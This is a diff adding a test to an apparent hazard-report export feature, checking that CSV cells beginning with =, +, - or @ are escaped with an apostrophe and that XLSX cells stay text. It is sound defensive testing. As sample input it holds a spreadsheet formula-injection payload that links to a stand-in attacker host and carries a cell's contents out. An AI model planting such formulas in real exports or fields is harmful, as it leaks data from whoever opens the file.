@@ -114,3 +114,30 @@ async def test_a_rights_protection_hazard_never_names_the_head_as_responsible(
     by_code = {row[0]: row for row in rows[1:]}
     assert by_code[world.hazards["H3"].code][10] is None
     assert by_code[world.hazards["H1"].code][10] == "user 40"  # the other hazards of that home still name its head
+
+
+async def test_a_csv_cell_that_starts_like_a_formula_stays_text(world: InsightWorld, tmp_path: Path) -> None:
+    """A description, measure or name starting with = + - @ is run as a formula when Excel opens a CSV (in the
+    XLSX they are text cells already): the county clerk opening the quarter's problem list ran what a reporter
+    typed. Such a cell is written with a leading apostrophe, which Excel reads as "this is text"."""
+    h1, h2 = world.hazards["H1"], world.hazards["H2"]
+    await world.storage.db.execute(
+        "UPDATE hazards SET description = ?, measures = ? WHERE id = ?",
+        ('=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+1", h1.id),
+    )
+    await world.storage.db.execute("UPDATE hazards SET description = ? WHERE id = ?", ("@SUM(1)", h2.id))
+    await world.storage.db.execute("UPDATE users SET full_name = ? WHERE telegram_id = 30", ("-2+3",))
+    path = tmp_path / "export.csv"
+    await export(world, LUCHENG_STAFF, ExportFormat.CSV, path)
+    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
+    by_code = {row[0]: row for row in rows[1:]}
+    assert by_code[h1.code][7] == '\'=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    assert by_code[h1.code][13] == "'+1+1" and by_code[h1.code][9] == "'-2+3"
+    assert by_code[h2.code][7] == "'@SUM(1)"
+    assert by_code[h1.code][8] == "2026-03-02 10:00"  # dates are the export's own, never a formula
+
+    xlsx = tmp_path / "export.xlsx"
+    await export(world, LUCHENG_STAFF, ExportFormat.XLSX, xlsx)
+    problems = load_workbook(xlsx)["问题清单"]
+    row = next(r for r in problems.iter_rows(min_row=2) if r[0].value == h1.code)
+    assert row[7].data_type == "s" and str(row[7].value).startswith("=HYPERLINK")  # a text cell, shown as typed
